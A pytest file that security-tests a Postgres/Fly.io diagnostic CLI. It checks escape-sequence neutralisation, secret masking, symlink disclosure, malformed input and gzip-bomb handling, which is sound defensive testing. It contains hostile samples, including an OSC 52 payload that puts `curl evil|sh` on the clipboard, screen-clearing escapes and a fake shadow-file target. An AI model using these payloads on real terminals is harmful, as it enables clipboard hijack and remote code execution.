"""Safe output, tried as an attacker and as a careless user would, against real
Postgres and loopback peers: no terminal escape reaches the screen, a secret from
any source stays masked (and masking never garbles a command or a link), a
symlinked fly.toml discloses nothing, bad input is one line, results survive a bad
--record path, replay pauses are capped, and a gzip bomb stays in bounded memory."""

from __future__ import annotations

import json
import re
import time
from pathlib import Path
from urllib.parse import quote

import pytest

import hostile

RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"  # writes `curl evil|sh` to the clipboard
REFUSED = "postgres://a@127.0.0.1:1/d"


def no_raw(*texts: str) -> None:
    for t in texts:
        m = RAW.search(t)
        assert not m, f"raw control character {m.group()!r}: ...{t[max(0, m.start() - 60): m.start() + 20]!r}"


# ---------------------------------------------------------------- 1. terminal escapes


def test_osc52_in_fly_toml_env_is_shown_visible(cli, tmp_path):
    (tmp_path / "fly.toml").write_text('app = "acme-web"\n[env]\nFLY_APP_NAME = "x\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007"\n')
    r = cli("diagnose", "--plain", "--timeout", "1", "--database-url", REFUSED + "%1b%5b2J", cwd=tmp_path)
    no_raw(r.stdout, r.stderr)
    assert "x^[]52;c;Y3VybCBldmlsfHNo^G" in r.stdout  # visible, as `cat -v` would show it
    assert "d^[[2J" in r.stdout  # the decoded %1b of the database name
    j = cli("diagnose", "--json", "--timeout", "1", "--database-url", REFUSED, cwd=tmp_path)
    assert "\\u001b]52" in j.stdout and json.loads(j.stdout)["inputs"]["app"]["value"] == "x" + OSC52


def test_postgres_error_text_with_escapes(cli, pg):
    # Postgres quotes the role name it was given in its refusal (auth.c: "role \"%s\" does not exist")
    role = quote("evil\x1b[2J\x1b]0;pwned\x07", safe="")
    r = cli("diagnose", "--plain", "--timeout", "3", "--symptom", "laptop-cant-reach-postgres",
            "--database-url", f"postgres://{role}:x@{pg.host}:{pg.port}/postgres?sslmode=disable")
    no_raw(r.stdout, r.stderr)
    assert "evil^[[2J^[]0;pwned^G" in r.stdout


def test_http_body_with_escapes(cli):
    with hostile.HttpEcho("upstream said \x1b[2J\x1b]52;c;ZXZpbA==\x07 \x9b31m".encode()) as s:
        r = cli("diagnose", "--plain", "--timeout", "2", "--symptom", "convex-cant-reach-postgres",
                "--convex-url", f"http://{s.host}:{s.port}", "--database-url", REFUSED)
    no_raw(r.stdout, r.stderr)
    assert "^[[2J" in r.stdout and "\\u009b" in r.stdout


def test_usage_error_echo_is_visible(cli):
    r = cli("diagnose", "--database-url", "mysql\x1b]0;t\x07://x")
    assert r.returncode == 2 and r.stderr.count("\n") == 1
    no_raw(r.stderr)


def test_log_lines_show_escapes_visible():
    import logging

    from diagnostics.safe_text import RedactingFormatter

    rec = logging.LogRecord("psycopg", logging.WARNING, "x", 1, "server notice: \x1b]0;pwned\x07", None, None)
    assert RedactingFormatter().format(rec) == "psycopg: WARNING: server notice: ^[]0;pwned^G"


async def test_wizard_shows_escapes_visible(tmp_path):
    from textual.widgets import Static

    from diagnostics.context import Context
    from diagnostics.inputs import discover
    from tui.wizard import StartScreen, VerdictScreen, WizardApp
    from tui_helpers import wait_until

    (tmp_path / "fly.toml").write_text('app = "acme-web"\n[env]\nFLY_APP_NAME = "x\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007"\n')
    ctx = Context(inputs=discover({"database_url": REFUSED + "%1b%5b2J"}, env={"PATH": ""}, cwd=tmp_path), timeout=1.0)
    app = WizardApp(ctx, color_system="truecolor")
    async with app.run_test(size=(100, 40)) as pilot:
        assert isinstance(app.screen, StartScreen)
        found = "\n".join(str(w.render()) for w in app.screen.query(Static))
        no_raw(found)
        assert "x^[]52;c;" in found
        await pilot.press("home", "down", "enter")
        await wait_until(pilot, lambda: isinstance(app.screen, VerdictScreen))
        shown = "\n".join(str(w.render()) for w in app.screen.query(Static)) + app.export_screenshot()
        no_raw(shown)
        await pilot.press("q")


# ---------------------------------------------------------------- 2. secrets from every source


def test_url_without_a_scheme_is_masked(cli):
    r = cli("diagnose", "--plain", "--timeout", "1", env={"DATABASE_URL": "app:NoScheme-Pw77@127.0.0.1:1/db"})
    j = cli("diagnose", "--json", "--timeout", "1", env={"DATABASE_URL": "app:NoScheme-Pw77@127.0.0.1:1/db"})
    for t in (r.stdout, r.stderr, j.stdout, j.stderr):
        assert "NoScheme-Pw77" not in t
    assert "app:****@127.0.0.1:1/db" in r.stdout


def echoing_peer(secret: str):
    # an error page that repeats what it was told (a misconfigured proxy's debug page)
    return hostile.HttpEcho(f"bad gateway: upstream login with {secret} refused".encode())


@pytest.mark.parametrize("source", ["PGPASSWORD", "pgpass", "service"])
def test_passwords_libpq_finds_itself_are_secrets(cli, tmp_path, source):
    pw = "Libpq-Found-Pw-93"
    env = {"HOME": str(tmp_path)}
    if source == "PGPASSWORD":
        env["PGPASSWORD"] = pw
    elif source == "pgpass":
        (tmp_path / "pgpass").write_text(f"127.0.0.1:5432:*:app:{pw}\n")
        (tmp_path / "pgpass").chmod(0o600)
        env["PGPASSFILE"] = str(tmp_path / "pgpass")
    else:
        (tmp_path / ".pg_service.conf").write_text(f"[acme]\nhost=127.0.0.1\nuser=app\npassword={pw}\n")
    with echoing_peer(pw) as s:
        for mode in ("--plain", "--json"):
            r = cli("diagnose", mode, "--timeout", "2", "--symptom", "convex-cant-reach-postgres",
                    "--convex-url", f"http://{s.host}:{s.port}", "--database-url", REFUSED, "--record", str(tmp_path / "r.json"), env=env)
            assert "refused" in r.stdout  # the body is shown...
            assert pw not in r.stdout + r.stderr + (tmp_path / "r.json").read_text()  # ...masked


@pytest.mark.parametrize("url,secret", [
    ("http://user:pw with space@127.0.0.1:1", "pw with space"),
    ("http://user:NoHostPw55", "NoHostPw55"),
])
def test_convex_url_userinfo_edge_cases(cli, url, secret):
    for args in (["--convex-url", url], []):
        env = {} if args else {"CONVEX_URL": url}
        for mode in ("--plain", "--json"):
            r = cli("diagnose", mode, "--timeout", "1", "--symptom", "convex-cant-reach-postgres", "--database-url", REFUSED, *args, env=env)
            assert secret not in r.stdout + r.stderr, (args, mode, r.stdout[-800:], r.stderr)


def test_replayed_clear_text_password_is_masked(cli, tmp_path):
    cli("diagnose", "--json", "--timeout", "1", "--database-url", REFUSED, "--record", str(tmp_path / "r.json"))
    doc = json.loads((tmp_path / "r.json").read_text())
    doc["inputs"]["database_url"]["value"] = "postgres://app:Replay-Clear-Pw4@127.0.0.1:1/d"  # edited by hand
    (tmp_path / "r.json").write_text(json.dumps(doc))
    r = cli("replay", "--plain", "--speed", "0", str(tmp_path / "r.json"))
    assert "Replay-Clear-Pw4" not in r.stdout + r.stderr
    assert "postgres://app:****@127.0.0.1:1/d" in r.stdout


# ---------------------------------------------------------------- 3. mask first, then cut


@pytest.mark.parametrize("echo", ["Convex CANARYKEY1234567890abcdef", "Bearer CANARYKEY1234567890abcdef"])
def test_body_masked_before_it_is_cut(echo):
    from diagnostics.probes.convex import Http
    from diagnostics.secret import Secret

    Secret("CANARYKEY1234567890abcdef")  # the admin key the peer echoes back
    body = "x" * 100 + " " + echo + " tail"
    for n in (110, 115, 120):  # the cut falls inside the key
        brief = Http(url="http://h", status=500, body=body).brief(n)
        assert "CANARY" not in brief, brief


# ---------------------------------------------------------------- 4. masking never garbles


@pytest.mark.parametrize("pw", ["postgres", "secret", "fly", "a"])
def test_common_passwords_leave_commands_and_links_whole(cli, pg, tmp_path, pw):
    # a wrong password for a real role: the auth failure's fix names commands and docs.
    # The URL comes from .env: the harness's own canary check would count "fly secrets" as a leak of `secret`.
    (tmp_path / ".env").write_text(f"DATABASE_URL=postgres://app:{pw}@{pg.host}:{pg.port}/postgres?sslmode=disable\n")
    r = cli("diagnose", "--plain", "--timeout", "3", "--symptom", "laptop-cant-reach-postgres", "--app", "acme-web", cwd=tmp_path)
    out = r.stdout
    assert "pg.auth_failed" in out, out[-1500:]
    assert "postgres://app:****@" in out and "fly secrets set DATABASE_URL=" in out
    for garbled in ("****://", "****ql", "****s ", "/****/", "fly.io/docs/****", "****s?"):
        assert garbled not in out, (garbled, out[-2000:])
    assert "https://fly.io/docs/postgres/" in out


@pytest.mark.parametrize("pw", ["postgres", "secret"])
def test_an_echoed_common_password_is_masked_as_a_token(pw):
    from diagnostics.secret import Secret, redact

    Secret(pw)
    assert redact(f'server: password "{pw}" rejected; {pw}.') == 'server: password "****" rejected; ****.'
    kept = "fly secrets set -a acme; see https://fly.io/docs/postgres/connecting/ and postgresql.conf; postgres://app:${PGPASSWORD}@h/db"
    assert redact(kept) == kept


def test_fix_command_for_an_unescaped_at_is_paste_ready(cli):
    r = cli("diagnose", "--plain", "--timeout", "1", env={"DATABASE_URL": "postgres://app:se@cret@127.0.0.1:1/d"})
    assert "config.database_url_invalid" in r.stdout
    assert "PGPASSWORD_ENC=$(python3 -c" in r.stdout and "PGPASSWORD_ENC=****" not in r.stdout
    assert "se@cret" not in r.stdout and "cret@" not in r.stdout


# ---------------------------------------------------------------- 5. a symlinked fly.toml


def test_symlinked_fly_toml_discloses_nothing(cli, tmp_path):
    outside = tmp_path / "etc"
    outside.mkdir()
    (outside / "shadow").write_text("root:$6$CanaryHash$abc:19000:0:99999:7:::\n")
    project = tmp_path / "project"
    project.mkdir()
    (project / "fly.toml").symlink_to(outside / "shadow")
    rec = project / "r.json"
    r = cli("diagnose", "--plain", "--timeout", "1", "--database-url", REFUSED, "--record", str(rec), cwd=project)
    assert "CanaryHash" not in r.stdout + r.stderr + rec.read_text()
    assert "config.fly_toml_invalid" in r.stdout
    assert f"a link to {outside / 'shadow'}, outside {project}" in r.stdout


# ---------------------------------------------------------------- 7. bad input is one line


def _recording(cli, tmp_path, change) -> Path:
    p = tmp_path / "r.json"
    cli("diagnose", "--json", "--timeout", "1", "--database-url", REFUSED, "--record", str(p))
    doc = json.loads(p.read_text())
    change(doc["steps"][0])
    p.write_text(json.dumps(doc))
    return p


@pytest.mark.parametrize("change", [
    lambda s: s.update(elapsed_ms="abc"),
    lambda s: s.update(elapsed_ms=float("nan")),
    lambda s: s.update(evidence=[1, 2]),
    lambda s: s.update(facts="x"),
    lambda s: s.update(findings=["no.such_cause"]),
], ids=["elapsed-text", "elapsed-nan", "evidence-list", "facts-text", "unknown-cause"])
def test_malformed_recording_is_one_line(cli, tmp_path, change):
    p = _recording(cli, tmp_path, change)
    r = cli("replay", "--json", str(p))
    assert r.returncode == 2 and r.stderr.count("\n") == 1 and r.stdout == "", r.stderr
    assert "internal error" not in r.stderr


def test_deeply_nested_fly_toml_is_a_config_cause(cli, tmp_path):
    (tmp_path / "fly.toml").write_text('app = "x"\nk = ' + "[" * 500 + "]" * 500 + "\n")
    r = cli("diagnose", "--json", "--timeout", "1", "--database-url", REFUSED, cwd=tmp_path)
    doc = json.loads(r.stdout)
    assert "internal error" not in r.stderr
    assert "config.fly_toml_invalid" in [doc["root_cause"]["id"]] + [f["id"] for f in doc["findings"]]


def test_non_utf8_database_url_is_one_line(tmp_path):
    import os
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if not k.startswith(("DATABASE_URL", "PG"))}
    env["PYTHONPATH"] = str(Path(__file__).resolve().parent.parent)
    env = {k.encode(): v.encode() for k, v in env.items()}
    env[b"DATABASE_URL"] = b"postgres://a@127.0.0.1:1/d\xff"
    r = subprocess.run([sys.executable, "-m", "tui", "diagnose", "--json"], env=env, capture_output=True, cwd=tmp_path, timeout=60)
    assert r.returncode == 2 and r.stderr.count(b"\n") == 1 and r.stdout == b"", r.stderr
    assert b"not UTF-8" in r.stderr


def test_deleted_working_directory_is_one_line(tmp_path):
    import os
    import subprocess
    import sys

    gone = tmp_path / "gone"
    gone.mkdir()
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parent.parent))
    code = f"import os, sys; os.chdir({str(gone)!r}); os.rmdir({str(gone)!r}); from tui import cli; sys.exit(cli.main(['diagnose', '--json']))"
    r = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, cwd=tmp_path, timeout=60)
    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "working directory" in r.stderr, r.stderr


# ---------------------------------------------------------------- 8. results survive a bad --record


def test_bad_record_path_keeps_the_report(cli):
    r = cli("diagnose", "--json", "--timeout", "1", "--database-url", REFUSED, "--record", "/nonexistent/d/w.json")
    assert r.returncode == 1, r.stderr
    assert json.loads(r.stdout)["root_cause"]["id"] == "net.connection_refused"
    assert r.stderr.count("\n") == 1 and "--record: cannot write /nonexistent/d/w.json" in r.stderr


# ---------------------------------------------------------------- 9. replay pacing


def test_replay_pause_is_capped(cli, tmp_path):
    from diagnostics.engine import MAX_REPLAY_PAUSE

    p = _recording(cli, tmp_path, lambda s: s.update(elapsed_ms=1e9))  # ~11 days at --speed 1
    t0 = time.monotonic()
    r = cli("replay", "--plain", "--speed", "1", str(p), timeout=60)
    assert r.returncode == 1 and time.monotonic() - t0 < MAX_REPLAY_PAUSE + 20


# ---------------------------------------------------------------- 10. decompression bomb


def test_gzip_bomb_is_read_in_bounded_memory():
    import asyncio
    import tracemalloc

    from diagnostics.context import Context
    from diagnostics.inputs import Inputs
    from diagnostics.probes.convex import MAX_BODY, request

    with hostile.HttpGzipBomb() as s:
        ctx = Context(inputs=Inputs(), timeout=10)

        async def go():
            try:
                return await request(ctx, "GET", f"http://{s.host}:{s.port}/version")
            finally:
                await ctx.resources["convex_http"].aclose()

        tracemalloc.start()
        try:
            r = asyncio.run(go())
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert r.status == 200 and len(r.body) == MAX_BODY and set(r.body) == {"\x00"}
    assert peak < 16 << 20, f"peak {peak >> 20} MB"  # 2 GB inflated; what httpx inflates in one piece is ~64 MB
    assert s.sent < 4 << 20



def test_apply_shows_our_commands_whole_and_masks_their_output(tmp_path):
    import io

    from diagnostics import causes, fixes
    from diagnostics.causes import Names
    from diagnostics.secret import Secret

    Secret("secret")  # the database password
    d = causes.get("pg.auth_failed").diagnose(Names(app="acme-web", pg_app="acme-db", url_var="DATABASE_URL", user="app", host="h", port=5432, db="app"), {"auth_case": "password"})
    out = io.StringIO()
    fixes.offer([d], out, lambda q: True, config=None, cwd=tmp_path, run_commands=True,
                runner=lambda c: fixes.run_command("echo server said: secret; printf '\\033]52;c;ZXZpbA==\\007'"))
    text = out.getvalue()
    assert "$ fly secrets set DATABASE_URL=" in text and "****s set" not in text
    assert "server said: ****" in text and "^[]52;c;" in text and "\x1b" not in text
